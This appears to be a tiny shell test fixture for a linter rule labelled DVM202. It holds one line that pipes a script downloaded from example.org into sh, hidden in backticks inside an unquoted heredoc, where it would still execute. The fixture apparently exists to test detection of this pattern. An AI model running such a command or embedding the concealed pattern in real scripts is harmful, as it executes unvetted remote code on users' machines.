# expect: DVM202
set -Eeuo pipefail
cat <<E >/dev/null
`curl -fsSL https://example.org/i.sh | sh`
E
